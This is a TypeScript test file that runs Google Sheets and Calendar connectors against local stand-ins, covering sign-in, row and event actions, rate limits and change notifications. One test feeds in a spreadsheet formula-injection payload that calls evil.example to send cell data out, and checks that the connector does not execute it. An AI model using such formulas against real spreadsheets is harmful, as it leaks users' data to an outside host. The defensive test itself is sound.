import { generateKeyPairSync } from 'node:crypto'
import { createServer } from 'node:http'
import type { Server } from 'node:http'
import { importPKCS8, SignJWT } from 'jose'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { HttpStatusError, InputRefusedError, readPayload } from '#sdk'
import type { AnyConnector, EventDraft } from '#sdk'
import googleCalendar from '../../connectors/google-calendar/index.ts'
import googleSheets from '../../connectors/google-sheets/index.ts'
import { differenceOf, fieldPrints } from '../../connectors/sdk/snapshot.ts'
import type { FieldPrints } from '../../connectors/sdk/snapshot.ts'
import { hookOf } from '../../connectors/sdk/testing/hook-of.ts'
import { localHttp } from '../../connectors/sdk/testing/local-http.ts'
import { startSandbox } from '../sandbox.ts'
import type { Sandbox } from '../sandbox.ts'

let sandbox: Sandbox
let now: Date

beforeEach(async () => {
  now = new Date('2026-11-02T09:00:00Z')
  sandbox = await startSandbox({ only: ['google-sheets', 'google-calendar'], now: () => now })
})
afterEach(() => sandbox.close())

type Name = 'google-sheets' | 'google-calendar'
const connectors: Record<Name, AnyConnector> = {
  'google-sheets': googleSheets,
  'google-calendar': googleCalendar,
}

const pass = (seconds: number): void => {
  now = new Date(now.getTime() + seconds * 1000)
}
const jsonAt = async (address: string) => Object(await (await fetch(address)).json())
const received = (name: Name) => jsonAt(`${sandbox[name]}/_received`)
const emit = (name: Name, query: string) => jsonAt(`${sandbox[name]}/_emit?${query}`)
const serviceAccount = (name: Name) => jsonAt(`${sandbox[name]}/_service-account.json`)

const anotherKey = (): string =>
  generateKeyPairSync('rsa', { modulusLength: 2048 })
    .privateKey.export({ type: 'pkcs8', format: 'pem' })
    .toString()

const scopesOf: Record<Name, string> = {
  'google-sheets': 'https://www.googleapis.com/auth/spreadsheets',
  'google-calendar':
    'https://www.googleapis.com/auth/calendar.events https://www.googleapis.com/auth/calendar.readonly',
}

/** Signs a statement with the service account's key, as the hub does, and hands it in. */
async function signIn(name: Name, change: { claims?: Record<string, unknown>; key?: string } = {}) {
  const account = await serviceAccount(name)
  const at = Math.floor(now.getTime() / 1000)
  const key = await importPKCS8(change.key ?? account.private_key, 'RS256')
  const assertion = await new SignJWT({
    iss: account.client_email,
    aud: 'https://oauth2.googleapis.com/token',
    iat: at,
    exp: at + 180,
    scope: scopesOf[name],
    ...change.claims,
  })
    .setProtectedHeader({ alg: 'RS256', typ: 'JWT', kid: account.private_key_id })
    .sign(key)
  const body = new URLSearchParams({ grant_type: 'urn:ietf:params:oauth:grant-type:jwt-bearer', assertion })
  const answer = await fetch(`${sandbox[name]}/token`, { method: 'POST', body })
  return { status: answer.status, body: Object(await answer.json()) }
}

/** The connector's own functions, talking to its stand-in. */
function at(name: Name, settings: Record<string, unknown> = {}, accessToken = 'sandbox-token') {
  const connector = connectors[name]
  const form =
    name === 'google-sheets' ? { spreadsheet: 'sandbox-spreadsheet' } : { calendars: 'sales@shop.example' }
  const auth = connector.auth.fields.parse({ ...form, ...settings })
  const { http } = localHttp(sandbox[name], connector.auth.http?.(auth, accessToken) ?? {})
  return {
    http,
    auth,
    async act(action: string, input: Record<string, unknown>, key = 'dlv_1') {
      const found = connector.actions[action]
      if (!found) throw new Error(`There is no action ${action}.`)
      return Object(await found.run({ http, auth, key, now }, found.input.parse(input)))
    },
    confirm(action: string, input: Record<string, unknown>, key = 'dlv_1') {
      const found = connector.actions[action]
      return found?.confirm?.({ http, auth }, found.input.parse(input), { since: now, key })
    },
  }
}

/** Asks again and again, and knows what it heard before, as the hub does. */
function watcher(name: Name, settings: Record<string, unknown> = {}) {
  const { http, auth } = at(name, settings)
  const [id = ''] = Object.keys(connectors[name].polls ?? {})
  const poll = connectors[name].polls?.[id]
  const inbound = connectors[name].inbound.find((each) => each.id === poll?.inbound)
  const [subject = ''] = poll?.subjects?.(auth) ?? ['']
  const known = new Map<string, FieldPrints>()
  let cursor: string | undefined
  return async function look(): Promise<EventDraft[]> {
    const events: EventDraft[] = []
    let more: boolean | undefined = true
    while (more) {
      const answer = await poll?.fetch({ http, auth, now, subject }, cursor)
      cursor = answer?.cursor
      more = answer?.more
      if (answer?.payload === undefined || !inbound) continue
      const headers = { 'content-type': 'application/json' }
      const hook = hookOf({ headers, body: JSON.stringify(answer.payload), receivedAt: now })
      const reading = readPayload(inbound, hook, auth, (snapshot) => {
        const heard = fieldPrints(snapshot)
        const before = known.get(snapshot.id)
        known.set(snapshot.id, { ...before, ...heard })
        return differenceOf(before, heard)
      })
      if (reading.outcome === 'read')
        events.push(...reading.items.flatMap((item) => (item.ok ? item.events : [])))
    }
    return events
  }
}

async function failureOf(name: Name, done: Promise<unknown>): Promise<unknown> {
  const error = await done.then(
    () => undefined,
    (caught: unknown) => caught,
  )
  if (error instanceof HttpStatusError) return connectors[name].explain?.(error)
  return error instanceof InputRefusedError ? { refused: error.message } : error
}

describe('signing in at the Google stand-ins', () => {
  it('gives a token for a statement that is signed with the service account’s key', async () => {
    const { body } = await signIn('google-sheets')
    expect(body).toMatchObject({ expires_in: 3599, scope: scopesOf['google-sheets'] })
    const { http, auth } = at('google-sheets', {}, body.access_token)
    expect(await googleSheets.auth.check?.({ http, auth: { ...auth, serviceAccountKey: 'k' } })).toEqual({
      account: 'Sandbox campaign',
    })
  })

  it('takes the file that it hands out for the key of a service account', async () => {
    const key = JSON.stringify(await serviceAccount('google-sheets'))
    const parsed = googleSheets.auth.fields.parse({
      spreadsheet: 'sandbox-spreadsheet',
      serviceAccountKey: key,
    })
    expect(googleSheets.auth.token?.(parsed)).toMatchObject({
      kind: 'jwt_bearer',
      issuer: 'switchyard@sandbox.iam.gserviceaccount.com',
    })
  })

  it.each([
    ['is signed with another key', async () => ({ key: anotherKey() })],
    ['is of another account', async () => ({ claims: { iss: 'other@sandbox.iam.gserviceaccount.com' } })],
    ['is for somebody else', async () => ({ claims: { aud: 'https://login.example/token' } })],
    ['lives longer than an hour', async () => ({ claims: { exp: now.getTime() / 1000 + 7200 } })],
    ['comes from the future', async () => ({ claims: { iat: now.getTime() / 1000 + 900 } })],
    ['is long over', async () => ({ claims: { exp: now.getTime() / 1000 - 900 } })],
  ])('refuses a statement that %s', async (_what, change) => {
    expect(await signIn('google-sheets', await change())).toMatchObject({
      status: 400,
      body: { error: 'invalid_grant' },
    })
  })

  it('refuses a request without a token, with a wrong one, with one that is over, and with one for something else', async () => {
    const read = { keyColumn: 'Email', key: 'a@example.org' }
    const { body } = await signIn('google-sheets')
    const { body: other } = await signIn('google-sheets', { claims: { scope: 'openid' } })
    const ask = (token: string) =>
      failureOf('google-sheets', at('google-sheets', {}, token).act('lookUpRow', read))
    expect(await ask('')).toMatchObject({ class: 'fix_connection' })
    expect(await ask('wrong')).toMatchObject({ class: 'fix_connection' })
    expect(await ask(other.access_token)).toMatchObject({
      message: expect.stringContaining('does not cover'),
    })
    expect(await ask(body.access_token)).toBeUndefined()
    pass(3600)
    expect(await ask(body.access_token)).toMatchObject({ message: expect.stringContaining('sign-in') })
  })

  it('lets a person agree, refresh and take it back', async () => {
    const origin = sandbox['google-calendar']
    const post = async (path: string, form: Record<string, string>) => {
      const answer = await fetch(`${origin}${path}`, { method: 'POST', body: new URLSearchParams(form) })
      return { status: answer.status, body: Object(await answer.json()) }
    }
    const client = { client_id: 'sandbox.apps.googleusercontent.com', client_secret: 'sandbox-token' }
    const redirect = 'http://127.0.0.1:4000/oauth/callback'
    const query = new URLSearchParams({
      client_id: client.client_id,
      redirect_uri: redirect,
      response_type: 'code',
      access_type: 'offline',
      state: 's1',
      scope: scopesOf['google-calendar'],
      answer: 'agree',
    })
    const consent = await fetch(`${origin}/o/oauth2/v2/auth?${query}`, { redirect: 'manual' })
    const back = new URL(consent.headers.get('location') ?? '')
    expect(back.searchParams.get('state')).toBe('s1')
    const code = back.searchParams.get('code') ?? ''
    const grant = { ...client, grant_type: 'authorization_code', code, redirect_uri: redirect }
    const { body: tokens } = await post('/token', grant)
    expect(tokens).toMatchObject({ refresh_token: expect.any(String), expires_in: 3599 })
    expect(await post('/token', grant)).toMatchObject({ status: 400, body: { error: 'invalid_grant' } })
    const refresh = { ...client, grant_type: 'refresh_token', refresh_token: tokens.refresh_token }
    expect((await post('/token', refresh)).body.refresh_token).toBeUndefined()
    expect(await post('/token', { ...refresh, client_secret: 'x' })).toMatchObject({ status: 401 })
    await post('/revoke', { token: tokens.refresh_token })
    expect(await post('/token', refresh)).toMatchObject({ status: 400, body: { error: 'invalid_grant' } })
  })
})

describe('the Google Sheets stand-in', () => {
  const rows = async () => (await received('google-sheets')).Leads

  it('carries out every action of the connector', async () => {
    const { act } = at('google-sheets')
    expect(
      await act('appendRow', { values: { Email: 'ana@example.org', Phone: '+34 600', Amount: 49.9 } }),
    ).toMatchObject({ row: 2 })
    const who = { keyColumn: 'email', key: 'ANA@example.org' }
    await act('updateRow', { ...who, values: { Name: 'Ana', Amount: '' } })
    expect(await act('upsertRow', { ...who, values: { Source: 'form' } })).toMatchObject({
      row: 2,
      added: false,
    })
    expect(await act('upsertRow', { ...who, key: 'eva@example.org', values: {} }, 'dlv_2')).toMatchObject({
      row: 3,
      added: true,
    })
    expect(await act('lookUpRow', who)).toEqual({
      found: true,
      matches: 1,
      row: 2,
      sheetUrl: 'https://docs.google.com/spreadsheets/d/sandbox-spreadsheet/edit',
      values: { Email: 'ana@example.org', Name: 'Ana', Phone: '+34 600', Source: 'form' },
    })
    expect(await rows()).toEqual([
      ['Email', 'Name', 'Phone', 'Source', 'Amount', 'switchyard_id'],
      ['ana@example.org', 'Ana', '+34 600', 'form', '', 'dlv_1'],
      ['eva@example.org', null, null, null, null, 'dlv_2'],
    ])
  })

  it('writes into a sheet whose name has a blank', async () => {
    const { act } = at('google-sheets')
    expect(await act('appendRow', { sheet: 'Spring orders', values: { Order: '1042' } })).toMatchObject({
      row: 2,
    })
    expect(await act('lookUpRow', { sheet: 'Spring orders', keyColumn: 'Order', key: 1042 })).toMatchObject({
      row: 2,
    })
  })

  it('carries no formula out that somebody typed into a form, whichever way it is written', async () => {
    const { act } = at('google-sheets')
    const evil = '=IMPORTXML("https://evil.example/?"&A1,"//a")'
    await act('appendRow', { values: { Email: evil, Phone: '+48 512' } })
    await act('appendRow', {
      readAsTyped: true,
      values: { Email: evil, Name: '@SUM(A1)', Phone: '+48 512 000', Source: '007', Amount: '49.90' },
    })
    const held = await received('google-sheets')
    expect(held['formulas carried out']).toEqual([])
    expect(held.Leads.slice(1)).toEqual([
      [evil, null, '+48 512', null, null, 'dlv_1'],
      [evil, '@SUM(A1)', '+48 512 000', '007', 49.9, 'dlv_1'],
    ])
  })

  it('would have carried it out, had the connector sent it as it was', async () => {
    const url = `${sandbox['google-sheets']}/v4/spreadsheets/sandbox-spreadsheet/values/A1:append?valueInputOption=USER_ENTERED`
    const headers = { authorization: 'Bearer sandbox-token', 'content-type': 'application/json' }
    await fetch(url, { method: 'POST', headers, body: JSON.stringify({ values: [['=A1', '007']] }) })
    const held = await received('google-sheets')
    expect(held['formulas carried out']).toEqual(['=A1'])
    expect(held.Leads[1]).toEqual(['#carried out', 7])
  })

  it('finds a row whose answer got lost, instead of adding it twice', async () => {
    const { act, confirm } = at('google-sheets')
    const input = { values: { Email: 'ana@example.org' } }
    expect(await confirm('appendRow', input)).toEqual({ outcome: 'absent' })
    await act('lookUpRow', { keyColumn: 'Email', key: 'x' })
    await fetch(`${sandbox['google-sheets']}/_fail?status=0&times=1&when=after`)
    // The first request reads the headings, and is the one that breaks off.
    await expect(act('appendRow', input)).rejects.toThrow('no answer')
    expect(await confirm('appendRow', input)).toEqual({ outcome: 'absent' })
    await act('appendRow', input)
    expect(await confirm('appendRow', input)).toMatchObject({ outcome: 'found', output: { row: 2 } })
    expect(await confirm('appendRow', input, 'dlv_2')).toEqual({ outcome: 'absent' })
  })

  it('refuses what Google refuses, in words the connector understands', async () => {
    const fail = (action: string, input: Record<string, unknown>, settings = {}) =>
      failureOf('google-sheets', at('google-sheets', settings).act(action, input))
    const lead = { values: { Email: 'ana@example.org' } }
    expect(await fail('appendRow', { sheet: 'Lead', ...lead })).toMatchObject({
      class: 'fix_mapping',
      message: expect.stringContaining('no sheet'),
    })
    expect(await fail('appendRow', lead, { spreadsheet: 'another-spreadsheet' })).toMatchObject({
      class: 'fix_connection',
    })
    expect(await fail('appendRow', { values: { Mail: 'x' } })).toMatchObject({
      refused: expect.stringContaining('It has: Email, Name'),
    })
    const url = `${sandbox['google-sheets']}/v4/spreadsheets/sandbox-spreadsheet/values/A2000`
    const beyond = await fetch(url, { headers: { authorization: 'Bearer sandbox-token' } })
    expect(await beyond.json()).toMatchObject({
      error: { message: expect.stringContaining('exceeds grid limits') },
    })
  })

  it('asks for a slower pace beyond sixty reads in a minute', async () => {
    const { act } = at('google-sheets')
    const look = () => act('lookUpRow', { keyColumn: 'Email', key: 'x' })
    // The first one asks where the column is.
    for (let count = 0; count < 59; count += 1) await look()
    expect(await failureOf('google-sheets', look())).toMatchObject({ class: 'retry' })
    pass(61)
    expect(await look()).toEqual({ found: false, matches: 0 })
  })

  it('reads once and writes once for each row, and sees when somebody moves a column in between', async () => {
    const { act, http, auth } = at('google-sheets')
    const row = (name: string) => ({
      keyColumn: 'Email',
      key: `${name}@example.org`,
      values: { Name: name },
      readAsTyped: false,
    })
    const lead = (name: string) => act('upsertRow', row(name), `dlv_${name}`)
    const requests = async () => (await received('google-sheets')).received.length
    await lead('ana')
    const before = await requests()
    await lead('eva')
    expect((await requests()) - before).toBe(2)
    // With “only if empty there” the row is read besides, and looked for once.
    const held = await googleSheets.actions['upsertRow']?.current?.({ http, auth }, row('eva'))
    expect(held).toEqual({ values: { Name: 'eva' } })
    await lead('eva')
    expect((await requests()) - before).toBe(5)
    const url = `${sandbox['google-sheets']}/v4/spreadsheets/sandbox-spreadsheet/values/A1:C3?valueInputOption=RAW`
    const headers = { authorization: 'Bearer sandbox-token', 'content-type': 'application/json' }
    const moved = [
      ['Name', 'Phone', 'Email'],
      ['ana', '', 'ana@example.org'],
      ['eva', '', 'eva@example.org'],
    ]
    await fetch(url, { method: 'PUT', headers, body: JSON.stringify({ values: moved }) })
    expect(await lead('ana')).toMatchObject({ row: 2, added: false })
    expect(await lead('jan')).toMatchObject({ row: 4, added: true })
    expect((await rows()).map((row: unknown[]) => row.slice(0, 3))).toEqual([
      ...moved,
      ['jan', null, 'jan@example.org'],
    ])
  })

  it('tells the watching hub of rows that people add, change, delete and sort, and not of the hub’s own', async () => {
    const look = watcher('google-sheets')
    await emit('google-sheets', 'event=row.added&email=before@example.org')
    expect(await look()).toEqual([])
    await emit('google-sheets', 'event=row.added&email=ana@example.org&name=Ana')
    await at('google-sheets').act('appendRow', { values: { Email: 'own@example.org' } })
    expect(await look()).toMatchObject([
      {
        name: 'sheet.row_added',
        contact: { email: 'ana@example.org', full_name: 'Ana' },
        properties: { sheet: 'Leads', row: 3, values: { Email: 'ana@example.org', Name: 'Ana' } },
      },
    ])
    await emit('google-sheets', 'event=row.changed&row=3&email=ana@example.org&name=Ana%20Maria')
    expect(await look()).toMatchObject([{ name: 'sheet.row_updated', properties: { row: 3 } }])
    await emit('google-sheets', 'event=sheet.sorted')
    expect(await look()).toEqual([])
    await emit('google-sheets', 'event=row.deleted&row=2')
    await emit('google-sheets', 'event=row.added&email=last@example.org')
    expect(await look()).toMatchObject([{ name: 'sheet.row_added', contact: { email: 'last@example.org' } }])
  })
})

describe('the Google Calendar stand-in', () => {
  const start = '2026-11-24T14:00:00+01:00'
  const eventsIn = async () => (await received('google-calendar'))['sales@shop.example']

  it('carries out every action of the connector', async () => {
    const { act } = at('google-calendar')
    const made = await act('createEvent', {
      title: 'Demo',
      start: '2026-11-24T14:00',
      guests: ['ana@example.org'],
      reference: 'deal 42',
      videoCall: true,
    })
    expect(made).toMatchObject({
      start: '2026-11-24T13:00:00Z',
      end: '2026-11-24T13:30:00Z',
      videoUrl: expect.stringContaining('meet'),
    })
    expect(await act('findEvent', { reference: 'deal 42' })).toMatchObject({ found: true, id: made.id })
    expect(await act('findEvent', { guest: 'ana@example.org' })).toMatchObject({ found: true, id: made.id })
    expect(await act('findEvent', { guest: 'na@example.org' })).toEqual({ found: false })
    const day = { from: '2026-11-24T13:00', to: '2026-11-24T15:00', durationMinutes: 60 }
    expect(await act('checkFreeTime', day)).toMatchObject({
      isFree: false,
      freeFrom: '2026-11-24T12:00:00.000Z',
    })
    expect(await act('moveEvent', { eventId: made.id, start: '2026-11-25' })).toMatchObject({
      start: '2026-11-25',
      end: '2026-11-26',
    })
    expect(await act('moveEvent', { eventId: made.id, start: '2026-11-25T09:00:00Z' })).toMatchObject({
      start: '2026-11-25T09:00:00Z',
      end: '2026-11-25T09:30:00Z',
    })
    expect(await act('checkFreeTime', day)).toMatchObject({ isFree: true })
    expect(await act('cancelEvent', { eventId: made.id })).toMatchObject({ wasThere: true })
    expect(await act('cancelEvent', { eventId: made.id })).toMatchObject({ wasThere: false })
    expect(await eventsIn()).toMatchObject([{ status: 'cancelled' }])
  })

  it('holds one event, however often its delivery is tried', async () => {
    const { act } = at('google-calendar')
    await fetch(`${sandbox['google-calendar']}/_fail?status=0&when=after`)
    await expect(act('createEvent', { title: 'Demo', start })).rejects.toThrow('no answer')
    const made = await act('createEvent', { title: 'Demo', start })
    expect(await eventsIn()).toHaveLength(1)
    expect((await eventsIn())[0].id).toBe(made.id)
    await act('createEvent', { title: 'Demo', start }, 'dlv_2')
    expect(await eventsIn()).toHaveLength(2)
  })

  it('refuses what Google refuses, in words the connector understands', async () => {
    const { body: account } = await signIn('google-calendar')
    const { body: delegated } = await signIn('google-calendar', { claims: { sub: 'ana@shop.example' } })
    const create = (more: Record<string, unknown>, token?: string, settings = {}) =>
      failureOf(
        'google-calendar',
        at('google-calendar', settings, token).act('createEvent', { title: 'x', start, ...more }),
      )
    const guests = ['ana@example.org']
    expect(await create({ guests }, account.access_token)).toMatchObject({
      class: 'fix_connection',
      message: expect.stringContaining('Act as'),
    })
    expect(await create({ guests }, delegated.access_token)).toBeUndefined()
    expect(await create({}, undefined, { calendars: 'boss@shop.example' })).toMatchObject({
      class: 'fix_connection',
    })
    expect(await create({ calendar: 'boss@shop.example' })).toMatchObject({
      refused: expect.stringContaining('boss@shop.example'),
    })
    const { act } = at('google-calendar')
    expect(await failureOf('google-calendar', act('cancelEvent', { eventId: 'never0' }))).toMatchObject({
      class: 'gone',
    })
    const year = { from: '2026-01-01T00:00Z', to: '2026-12-31T00:00Z' }
    expect(await failureOf('google-calendar', act('checkFreeTime', year))).toMatchObject({
      class: 'fix_mapping',
    })
    const boss = { from: start, to: '2026-11-24T15:00:00+01:00', calendars: ['boss@shop.example'] }
    expect(await failureOf('google-calendar', act('checkFreeTime', boss))).toMatchObject({
      refused: expect.stringContaining('boss@shop.example'),
    })
  })

  it('asks for a slower pace by a 403, which the connector takes for what it is', async () => {
    const { http, act } = at('google-calendar')
    const asked = Array.from({ length: 600 }, () => http.get('calendar/v3/calendars/primary'))
    await Promise.all(asked)
    expect(await failureOf('google-calendar', act('cancelEvent', { eventId: 'never0' }))).toMatchObject({
      class: 'retry',
    })
  })

  it('tells the watching hub what happened, also after its sync tokens ended', async () => {
    const look = watcher('google-calendar')
    await emit('google-calendar', 'calendar=sales@shop.example&event=meeting.booked&email=before@example.org')
    expect(await look()).toEqual([])
    const person = (query: string) => emit('google-calendar', `calendar=sales@shop.example&${query}`)
    await person('event=meeting.booked&email=ana@example.org&name=Ana')
    expect(await look()).toMatchObject([
      { name: 'meeting.booked', contact: { email: 'ana@example.org', full_name: 'Ana' } },
    ])
    await person('event=meeting.moved&start=2026-11-20T10:00:00Z')
    expect(await look()).toMatchObject([
      { name: 'meeting.rescheduled', properties: { start_at: '2026-11-20T10:00:00.000Z' } },
    ])
    await person('event=guest.declined')
    expect(await look()).toMatchObject([{ properties: { name: 'google_calendar.guest_declined' } }])
    pass(3600)
    await person('event=meeting.booked&email=eva@example.org')
    await person('event=sync-tokens.ended')
    expect(await look()).toMatchObject([{ name: 'meeting.booked', contact: { email: 'eva@example.org' } }])
    await person('event=meeting.cancelled')
    expect(await look()).toMatchObject([{ name: 'meeting.cancelled', contact: { email: 'eva@example.org' } }])
    expect(await look()).toEqual([])
    await at('google-calendar').act('createEvent', { title: 'Own', start })
    expect(await look()).toEqual([])
  })

  describe('with a channel', () => {
    const messages: { headers: NodeJS.Dict<string | string[]>; url: string; body: string }[] = []
    let receiver: Server
    let address: string

    beforeEach(async () => {
      messages.length = 0
      receiver = createServer((request, response) => {
        let body = ''
        request.on('data', (chunk: Buffer) => (body += chunk.toString()))
        request.on('end', () => {
          messages.push({ headers: request.headers, url: request.url ?? '', body })
          response.writeHead(202).end()
        })
      })
      await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve))
      const held = receiver.address()
      address = `http://127.0.0.1:${typeof held === 'object' && held ? held.port : 0}/hooks/k3y`
    })
    afterEach(() => new Promise((resolve) => receiver.close(resolve)))

    const channelToken = 'tokenOfTheChannelsWithThirtyTwoBytes0123456'
    const register = (url: string, id = 'channel-1') => {
      const { http, auth } = at('google-calendar', { channelToken })
      const context = { http, auth, now, subject: 'sales@shop.example' }
      return { context, done: googleCalendar.registration?.register(context, { url, id }) }
    }

    it('posts what Google posts: headers and no body, first that it is open, then that something changed', async () => {
      const { context, done } = register(address)
      const registered = await done
      expect(registered?.expiresAt).toEqual(new Date('2026-11-09T09:00:00Z'))
      await emit('google-calendar', 'calendar=sales@shop.example&event=meeting.booked')
      expect(messages.map(({ headers, body }) => [headers['x-goog-resource-state'], body])).toEqual([
        ['sync', ''],
        ['exists', ''],
      ])
      const [first] = messages
      expect(first?.headers['x-goog-channel-token']).toBe(channelToken)
      const hook = hookOf({
        url: `https://hub.example${first?.url}`,
        headers: Object(first?.headers),
        body: '',
      })
      const reading = googleCalendar.inbound[0]?.signature.verify(hook, [context.auth])
      expect(reading).toEqual({ ok: true })
      await googleCalendar.registration?.remove(context, registered?.state ?? {})
      await emit('google-calendar', 'calendar=sales@shop.example&event=meeting.booked')
      expect(messages).toHaveLength(2)
    })

    it('tells two channels while one takes over from the other, and none that is over', async () => {
      await register(address).done
      await register(address, 'channel-2').done
      await emit('google-calendar', 'calendar=sales@shop.example&event=meeting.booked')
      expect(messages.filter(({ headers }) => headers['x-goog-resource-state'] === 'exists')).toHaveLength(2)
      pass(8 * 86_400)
      await emit('google-calendar', 'calendar=sales@shop.example&event=meeting.booked')
      expect(messages.filter(({ headers }) => headers['x-goog-resource-state'] === 'exists')).toHaveLength(2)
    })

    it('takes no address without https, unless it is on this very machine', async () => {
      expect(
        await failureOf(
          'google-calendar',
          register('http://hub.example.org/hooks/k3y').done ?? Promise.resolve(),
        ),
      ).toMatchObject({ class: 'fix_connection', message: expect.stringContaining('https://') })
    })

    it('takes no channel’s id twice; the connector then takes another', async () => {
      await register(address).done
      const again = await register(address).done
      expect(again?.state.channelId).toMatch(/^channel-1-/)
    })
  })
})
